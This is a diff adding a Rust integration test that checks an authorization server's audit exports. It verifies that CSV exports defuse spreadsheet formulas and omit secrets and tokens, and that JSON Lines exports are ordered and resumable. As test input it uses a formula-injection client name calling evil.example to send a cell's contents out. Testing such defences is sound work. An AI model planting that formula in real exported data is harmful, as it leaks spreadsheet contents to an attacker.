@@ -747,3 +747,159 @@ fn compaction_keeps_the_chain_verifiable_and_replay_gives_the_same_live_state() 
     assert!(!ok);
     assert!(text.contains("is not the one event 1 recorded"), "{text}");
 }
+
+#[test]
+fn exports_carry_each_events_details_without_secrets_and_defuse_spreadsheet_formulas() {
+    let app = spawn_app();
+    some_history(&app);
+    // A client name a spreadsheet would run as a formula.
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    let made = app.cli_json(&[
+        "client",
+        "create",
+        "--name",
+        evil,
+        "--scope",
+        "read write",
+        "--token-format",
+        "opaque",
+        "--format",
+        "json",
+    ]);
+    let id = made["client_id"].as_str().unwrap().to_owned();
+    let secret = made["client_secret"].as_str().unwrap().to_owned();
+    let token = app.token(&id, &secret, Some("read"))["access_token"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+
+    // CSV to stdout (audit query) and to a file (audit export): the same rows.
+    let out = app.cli(&["audit", "query", "--client", &id, "--format", "csv"]);
+    assert!(out.status.success());
+    let csv_text = String::from_utf8(out.stdout).unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("trail.csv");
+    let out = app.cli(&[
+        "audit",
+        "export",
+        "--client",
+        &id,
+        "--format",
+        "csv",
+        "--output",
+        file.to_str().unwrap(),
+    ]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let exported = std::fs::read_to_string(&file).unwrap();
+    assert_eq!(exported, csv_text);
+    let mut reader = csv::Reader::from_reader(exported.as_bytes());
+    let header: Vec<String> = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .map(str::to_owned)
+        .collect();
+    assert_eq!(&header[7..], ["client_id", "subject", "details"]);
+    let rows: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect();
+    let registered = rows
+        .iter()
+        .find(|r| r[2] == "ClientRegistered")
+        .expect("ClientRegistered row");
+    assert_eq!(registered[7], id);
+    // The name is there, defused: no cell begins with = + - @ tab or CR.
+    assert!(
+        registered[9].contains("name=\"=HYPERLINK") || registered[9].contains("name==HYPERLINK"),
+        "{}",
+        registered[9]
+    );
+    assert!(
+        registered[9].contains("scopes=read,write"),
+        "{}",
+        registered[9]
+    );
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell == "-",
+                "a cell a spreadsheet would run: {cell}"
+            );
+        }
+    }
+    let issued = rows
+        .iter()
+        .find(|r| r[2] == "AccessTokenIssued")
+        .expect("AccessTokenIssued row");
+    assert!(
+        issued[9].contains("grant_type=client_credentials") && issued[9].contains("scopes=read"),
+        "{}",
+        issued[9]
+    );
+    // No hash of a secret, token or code, and never the token itself.
+    assert!(
+        !exported.contains("hmac-sha256:") && !exported.contains("secret_hash"),
+        "{exported}"
+    );
+    assert!(!exported.contains(&token) && !exported.contains(&secret));
+    // The name as a cell of its own gets the quote (the table's name column).
+    let out = app.cli(&["client", "list", "--format", "csv"]);
+    let listed = String::from_utf8(out.stdout).unwrap();
+    assert!(listed.contains("'=HYPERLINK"), "{listed}");
+
+    // JSON Lines of everything: each line one event as recorded, in order, the file complete.
+    let all = dir.path().join("trail.jsonl");
+    let out = app.cli(&["audit", "export", "--output", all.to_str().unwrap()]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(String::from_utf8_lossy(&out.stderr).contains("wrote "));
+    let lines: Vec<Value> = std::fs::read_to_string(&all)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert!(lines.len() > 10);
+    assert!(lines
+        .windows(2)
+        .all(|w| w[0]["position"].as_u64() < w[1]["position"].as_u64()));
+    assert_eq!(
+        lines.len() as u64,
+        lines.last().unwrap()["position"].as_u64().unwrap()
+            - lines[0]["position"].as_u64().unwrap()
+            + 1
+    );
+    assert!(!dir.path().join("trail.partial").exists());
+    // Resuming after the last position exports nothing more.
+    let last = lines.last().unwrap()["position"]
+        .as_u64()
+        .unwrap()
+        .to_string();
+    let rest = dir.path().join("rest.jsonl");
+    let out = app.cli(&[
+        "audit",
+        "export",
+        "--after",
+        &last,
+        "--output",
+        rest.to_str().unwrap(),
+    ]);
+    assert!(out.status.success());
+    let rest_text = std::fs::read_to_string(&rest).unwrap();
+    assert!(
+        rest_text
+            .lines()
+            .all(|l| serde_json::from_str::<Value>(l).unwrap()["position"]
+                .as_u64()
+                .unwrap()
+                > last.parse().unwrap()),
+        "{rest_text}"
+    );
+}
